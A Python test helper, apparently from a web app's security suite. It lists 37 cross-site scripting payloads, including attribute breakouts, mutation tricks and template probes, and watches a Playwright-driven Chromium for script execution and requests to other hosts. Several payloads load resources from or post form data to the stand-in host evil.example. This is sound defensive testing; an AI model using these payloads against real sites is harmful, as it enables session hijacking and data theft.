"""What attackers put into mail and forms so that a browser of the house acts for them, and a browser that is watched.

``xss()`` is what every script here calls; ``https://evil.example`` is where everything else wants to go. Nothing leaves the
machine: the watch stops it and counts it.
"""

import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from urllib.parse import urlsplit

from playwright.sync_api import BrowserContext, Page, Route, sync_playwright

ATTACKS: tuple[tuple[str, str], ...] = (
    ("a script", "<script>xss()</script>"),
    ("a script from elsewhere", '<script src="https://evil.example/x.js"></script>'),
    ("a picture that fails", "<img src=x onerror=xss()>"),
    ("a picture from elsewhere", '<img src="https://evil.example/p.gif" width=1>'),
    ("a picture with more sources", '<img srcset="https://evil.example/s.gif 2x">'),
    ("a drawing that loads", "<svg onload=xss()></svg>"),
    ("a script in a drawing", "<svg><script>xss()</script></svg>"),
    ("an animation", '<svg><animate onbegin=xss() attributeName=x dur="1s"></animate></svg>'),
    ("a link that is a script", '<a href="javascript:xss()" id=go>read it</a>'),
    ("a link with hidden letters", '<a href="java&#9;script:xss()" id=go>read it</a>'),
    ("a style sheet from elsewhere", '<link rel=stylesheet href="https://evil.example/l.css">'),
    ("an import", "<style>@import url(https://evil.example/i.css);</style>"),
    ("a background", '<div style="background:url(https://evil.example/b.png)">b</div>'),
    ("a background of old", '<table background="https://evil.example/t.png"><tr><td>t</table>'),
    ("a refresh", '<meta http-equiv=refresh content="0;url=https://evil.example/r">'),
    ("a form", '<form action="https://evil.example/f"><input name=pin autofocus onfocus="form.submit();xss()"></form>'),
    ("a button", '<form><button formaction="javascript:xss()" id=go autofocus onfocus=xss()>Go on</button></form>'),
    ("a frame", '<iframe src="https://evil.example/w"></iframe>'),
    ("a frame with its own words", '<iframe srcdoc="<script>parent.xss()</script>"></iframe>'),
    ("an object", '<object data="https://evil.example/o"></object>'),
    ("an embedded thing", '<embed src="https://evil.example/e">'),
    ("details that open", "<details open ontoggle=xss()>d</details>"),
    ("a box in focus", "<input autofocus onfocus=xss()>"),
    ("an element of no language", "<xss tabindex=1 onfocus=xss() autofocus>x</xss>"),
    ("a film without a source", "<video><source onerror=xss() src=x></video>"),
    ("a sound", '<audio src="https://evil.example/a.mp3" autoplay></audio>'),
    ("the body's own event", "<body onload=xss()>"),
    ("the end of an attribute", '"><script>xss()</script>'),
    ("the end of a single-quoted attribute", "' autofocus onfocus=xss() x='><img src=x onerror=xss()>"),
    ("the end of the title", "</title><img src=x onerror=xss()>"),
    ("the end of a text box", "</textarea><svg onload=xss()></svg>"),
    ("the end of a comment", "<!--><img src=x onerror=xss()>-->"),
    ("the end of a style", "<svg><style><!--</style><img src=x onerror=xss()>--></style></svg>"),
    ("what changes when it is read twice", '<noscript><p title="</noscript><img src=x onerror=xss()>"></noscript>'),
    ("mathematics", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=xss()&gt;'></table></math>"),
    ("letters in disguise", "&lt;script&gt;xss()&lt;/script&gt;<img src=x onerror=&#120;ss()>"),
    ("a template of ours", "{{ 7 * 191 }}{% include 'base.html' %}{{ request.app }}<img src=x onerror=xss()>"),
)

_HOOK = "window.xss = () => { console.log('xss ran'); };"


@dataclass
class Watched:
    """A page, and what it did that it should not."""

    page: Page
    base: str
    ran: list[str] = field(default_factory=list)
    left: list[str] = field(default_factory=list)

    def look(self, path: str) -> None:
        """Open it, wait for all it loads, tread on every link that an attack has made."""
        self.page.goto(self.base + path)
        self.settle()

    def settle(self) -> None:
        """Until bait is taken and what is at hand has happened."""
        for frame in (one for one in self.page.frames if one == self.page.main_frame or one.url.startswith(self.base)):
            for bait in frame.locator("#go").all():
                bait.click(timeout=2_000, no_wait_after=True)
        self.page.evaluate("() => new Promise(done => requestAnimationFrame(() => setTimeout(done)))")


@contextmanager
def watched_browser(base: str, cookies: dict[str, str] | None = None) -> Iterator[Watched]:
    """A browser at ``base``, logged in by ``cookies``."""
    program = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    assert program, "this needs a browser: apt-get install chromium"
    with sync_playwright() as play:
        browser = play.chromium.launch(executable_path=program, args=["--no-sandbox", "--disable-background-networking"])
        context = browser.new_context()
        context.add_cookies([{"name": name, "value": value, "url": base} for name, value in (cookies or {}).items()])
        yield _watch(context, base)
        browser.close()


def _watch(context: BrowserContext, base: str) -> Watched:
    context.add_init_script(_HOOK)
    watched = Watched(context.new_page(), base)

    def pass_or_stop(route: Route) -> None:
        address = route.request.url
        if urlsplit(address).netloc == urlsplit(base).netloc:
            route.continue_()
        else:
            watched.left.append(address)
            route.abort()

    context.route("**/*", pass_or_stop)
    context.on("console", lambda line: watched.ran.append(line.text) if line.text == "xss ran" or "Content Security" in line.text else None)
    context.on("dialog", lambda dialog: (watched.ran.append(dialog.message), dialog.dismiss()))
    return watched
